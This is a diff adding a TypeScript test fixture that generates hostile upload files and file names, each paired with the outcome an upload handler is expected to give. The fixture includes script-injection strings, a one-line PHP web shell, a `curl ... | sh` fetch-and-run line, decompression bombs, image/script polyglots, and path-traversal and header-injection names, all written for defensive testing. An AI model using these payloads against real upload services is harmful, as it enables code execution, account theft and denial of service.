@@ -1,0 +1,233 @@
+import { crc32, deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
+import sharp from 'sharp';
+
+/** In what nobody may ever get to see, or run. */
+export const marker = 'Wm4kZ';
+const script = `<script>alert("${marker}")</script>`;
+
+/** What becomes of a file: refused, or its type. */
+type Fate = 'refused' | (string & {});
+
+export interface HostileFile {
+  what: string;
+  bytes: Buffer;
+  fate: Fate;
+}
+
+const be32 = (value: number) => {
+  const bytes = Buffer.alloc(4);
+  bytes.writeUInt32BE(value);
+  return bytes;
+};
+const le16 = (...values: number[]) => {
+  const bytes = Buffer.alloc(2 * values.length);
+  for (const [n, value] of values.entries()) bytes.writeUInt16LE(value, 2 * n);
+  return bytes;
+};
+const le32 = (value: number) => {
+  const bytes = Buffer.alloc(4);
+  bytes.writeUInt32LE(value);
+  return bytes;
+};
+
+function chunk(type: string, data: Buffer): Buffer {
+  const named = Buffer.concat([Buffer.from(type), data]);
+  return Buffer.concat([be32(data.length), named, be32(crc32(named))]);
+}
+
+/** A PNG that says it is so large, of one bit a pixel, with these packed pixels. */
+function png(width: number, height: number, pixels: Buffer, ...more: Buffer[]): Buffer {
+  const header = Buffer.concat([be32(width), be32(height), Buffer.from([1, 0, 0, 0, 0])]);
+  return Buffer.concat([
+    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
+    chunk('IHDR', header),
+    ...more,
+    chunk('IDAT', pixels),
+    chunk('IEND', Buffer.alloc(0)),
+  ]);
+}
+
+/** A GIF of so many frames of one pixel. */
+function gif(width: number, height: number, frames: number): Buffer {
+  const screen = Buffer.concat([
+    le16(width, height),
+    Buffer.from([0x80, 0, 0]),
+    Buffer.from('000000ffffff', 'hex'),
+  ]);
+  const frame = Buffer.concat([
+    Buffer.from('21f9040000000000', 'hex'),
+    Buffer.from([0x2c]),
+    le16(0, 0, 1, 1),
+    Buffer.from('0002024401003b', 'hex').subarray(0, 6),
+  ]);
+  return Buffer.concat([
+    Buffer.from('GIF89a'),
+    screen,
+    ...Array<Buffer>(frames).fill(frame),
+    Buffer.from(';'),
+  ]);
+}
+
+/** A zip of one entry, whatever it unpacks to. */
+function zip(name: string, packed: Buffer, size: number): Buffer {
+  const common = Buffer.concat([
+    le16(20, 0, 8, 0, 0),
+    le32(0),
+    le32(packed.length),
+    le32(size),
+    le16(name.length),
+  ]);
+  const local = Buffer.concat([Buffer.from('PK\x03\x04'), common, le16(0), Buffer.from(name), packed]);
+  const central = Buffer.concat([
+    Buffer.from('PK\x01\x02'),
+    le16(20),
+    common,
+    le16(0, 0, 0, 0),
+    le32(0),
+    le32(0),
+    Buffer.from(name),
+  ]);
+  const end = Buffer.concat([
+    Buffer.from('PK\x05\x06'),
+    le16(0, 0, 1, 1),
+    le32(central.length),
+    le32(local.length),
+    le16(0),
+  ]);
+  return Buffer.concat([local, central, end]);
+}
+
+/** Files that are made to run, to leak or to break what reads them. */
+export async function hostileFiles(): Promise<HostileFile[]> {
+  const plain = sharp({ create: { width: 30, height: 20, channels: 3, background: '#369' } });
+  const [asPng, asJpeg, asWebp, asAvif] = await Promise.all([
+    plain.clone().png().toBuffer(),
+    plain.clone().jpeg().toBuffer(),
+    plain.clone().webp().toBuffer(),
+    plain.clone().avif({ effort: 0 }).toBuffer(),
+  ]);
+  const zeros = Buffer.alloc(30_000_000);
+  const bomb = deflateSync(zeros, { level: 1 });
+  const rawBomb = deflateRawSync(zeros, { level: 1 });
+  const place = { IFD0: { Make: marker, ImageDescription: script }, IFD3: { GPSLatitude: '52/1 31/1 12/1' } };
+  const xmp = `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator="${marker}"/></rdf:RDF></x:xmpmeta>`;
+  const frames = await sharp(
+    Buffer.alloc(2 * 2 * 501 * 3).map((_, n) => (n * 37) % 251),
+    {
+      raw: { width: 2, height: 2 * 501, channels: 3, pageHeight: 2 },
+    },
+  )
+    .webp({ loop: 0, delay: Array<number>(501).fill(50) })
+    .toBuffer();
+  const jpegOf = (side: number) => {
+    const bytes = Buffer.from(asJpeg);
+    const at = bytes.indexOf(Buffer.from([0xff, 0xc0]));
+    bytes.writeUInt16BE(side, at + 5);
+    bytes.writeUInt16BE(side, at + 7);
+    return bytes;
+  };
+  const comment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, script.length + 2]), Buffer.from(script)]);
+  const text = (words: string) => Buffer.from(words);
+  const cases: [string, Buffer, Fate][] = [
+    ['SVG with a script', text(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`), 'text/plain'],
+    ['SVG with a prolog', text(`<?xml version="1.0"?><svg onload="alert('${marker}')"/>`), 'text/plain'],
+    ['HTML', text(`<!doctype html><body>${script}`), 'text/plain'],
+    ['a script of PHP', text(`<?php system($_GET["${marker}"]);`), 'text/plain'],
+    ['a script of a shell', text(`#!/bin/sh\ncurl ${marker} | sh\n`), 'text/plain'],
+    ['an mhtml', text(`MIME-Version: 1.0\nContent-Type: multipart/related\n\n${script}`), 'text/plain'],
+    ['HTML after the beginning of a PNG', Buffer.concat([asPng.subarray(0, 8), text(script)]), 'refused'],
+    ['HTML after the header of a PNG', Buffer.concat([asPng.subarray(0, 33), text(script)]), 'refused'],
+    ['a script that begins as a GIF', text(`GIF89a=1;alert("${marker}")`), 'refused'],
+    [
+      'a script that begins as a JPEG',
+      Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), text(script)]),
+      'refused',
+    ],
+    ['a PNG with HTML behind it', Buffer.concat([asPng, text(script)]), 'image/png'],
+    ['a JPEG with a zip behind it', Buffer.concat([asJpeg, zip(`${marker}.js`, rawBomb, 9)]), 'image/jpeg'],
+    [
+      'a JPEG with a comment',
+      Buffer.concat([asJpeg.subarray(0, 2), comment, asJpeg.subarray(2)]),
+      'image/jpeg',
+    ],
+    ['a WebP with a script behind it', Buffer.concat([asWebp, text(script)]), 'image/webp'],
+    [
+      'a PNG with a text',
+      png(8, 1, deflateSync(Buffer.from([0, 1])), chunk('tEXt', text(`a\0${script}`))),
+      'image/png',
+    ],
+    [
+      'a PNG with a packed text that unpacks to much',
+      png(8, 1, deflateSync(Buffer.from([0, 1])), chunk('zTXt', Buffer.concat([text('a\0\0'), bomb]))),
+      'image/png',
+    ],
+    ['a JPEG with a place', await plain.clone().jpeg().withExif(place).toBuffer(), 'image/jpeg'],
+    ['a PNG with a place', await plain.clone().png().withExif(place).toBuffer(), 'image/png'],
+    ['a WebP with a place', await plain.clone().webp().withExif(place).toBuffer(), 'image/webp'],
+    [
+      'an AVIF with a place',
+      await plain.clone().avif({ effort: 0 }).withExif(place).toBuffer(),
+      'image/avif',
+    ],
+    ['a JPEG with XMP', await plain.clone().jpeg().withXmp(xmp).toBuffer(), 'image/jpeg'],
+    ['a PNG of 30,000 × 30,000', png(30_000, 30_000, bomb), 'refused'],
+    ['a PNG of 8,001 × 8,000', png(8001, 8000, bomb), 'refused'],
+    ['a PNG of no size', png(0, 0, bomb), 'refused'],
+    ['a PNG with more pixels than it says', png(8, 8, bomb), 'image/png'],
+    ['a PNG with fewer pixels than it says', png(4000, 4000, deflateSync(Buffer.alloc(9))), 'refused'],
+    ['a JPEG of 65,500 × 65,500', jpegOf(65_500), 'refused'],
+    ['half a JPEG', asJpeg.subarray(0, asJpeg.length / 2), 'refused'],
+    ['a GIF of 10,000 frames', gif(1, 1, 10_000), 'refused'],
+    // It is as large as its frames: one pixel.
+    ['a GIF of 65,535 × 65,535', gif(65_535, 65_535, 1), 'image/gif'],
+    ['a GIF of 400 frames of 500 × 500', gif(500, 500, 400), 'refused'],
+    ['a WebP of 501 frames', frames, 'refused'],
+    ['half an AVIF', asAvif.subarray(0, asAvif.length / 2), 'refused'],
+    ['a zip that unpacks to much', zip('a.txt', rawBomb, zeros.length), 'application/zip'],
+    ['a document that unpacks to much', zip('[Content_Types].xml', rawBomb, zeros.length), 'application/zip'],
+    ['a zip that lies about its size', zip('mimetype', rawBomb, 9), 'application/zip'],
+    ['a gzip that unpacks to much', gzipSync(zeros, { level: 1 }), 'refused'],
+    ['a program of Windows', Buffer.concat([text('MZ'), Buffer.alloc(64)]), 'refused'],
+    ['a program of Linux', Buffer.concat([text('\x7fELF'), Buffer.alloc(64)]), 'refused'],
+    ['WebAssembly', Buffer.concat([text('\0asm'), Buffer.from([1, 0, 0, 0])]), 'refused'],
+    ['a PDF that is a script, too', text(`%PDF-1.7\n//${script}\n`), 'application/pdf'],
+    [
+      'an MP3 with HTML in its tags',
+      Buffer.concat([
+        text('ID3\x03\0\0\0\0\x0f\x76TIT2'),
+        text(script),
+        Buffer.alloc(2038 - 4 - script.length),
+        Buffer.from([0xff, 0xfb, 0x90, 0]),
+        Buffer.alloc(2000),
+      ]),
+      'audio/mpeg',
+    ],
+    [
+      'an ASF whose parts have no length',
+      Buffer.concat([Buffer.from('3026b2758e66cf11a6d900aa0062ce6c', 'hex'), Buffer.alloc(500)]),
+      'refused',
+    ],
+    ['a TIFF', await plain.clone().tiff().toBuffer(), 'image/tiff'],
+  ];
+  return cases.map(([what, bytes, fate]) => ({ what, bytes, fate }));
+}
+
+/** What an uploader calls a file, and what others see. */
+export const hostileNames: [string, string | RegExp][] = [
+  ['../../../etc/passwd', 'passwd'],
+  ['..\\..\\boot.ini', 'boot.ini'],
+  ['/', 'file'],
+  ['..', 'file'],
+  ['.htaccess', 'htaccess'],
+  ['photo\u202egnp.exe', 'photognp.exe'],
+  ['\u2066a\u2069\u200f\ufeff.txt', 'a.txt'],
+  ['a\r\nSet-Cookie: x=1.txt', 'aSet-Cookie_ x=1.txt'],
+  ['a\u0000.html', 'a.html'],
+  ['a";filename="b.html', 'a_;filename=_b.html'],
+  ['<img src=x onerror=alert(1)>.png', '_img src=x onerror=alert(1)_.png'],
+  [`${'x'.repeat(300)}.png`, /^x{95}….png$/],
+  [`${'👩🏽‍💻'.repeat(100)}.txt`, /….txt$/],
+  [`a.${'b'.repeat(300)}`, /^a\.b{97}…$/],
+  ['  space \t here.txt ', 'space here.txt'],
+  ['', 'file'],
+];
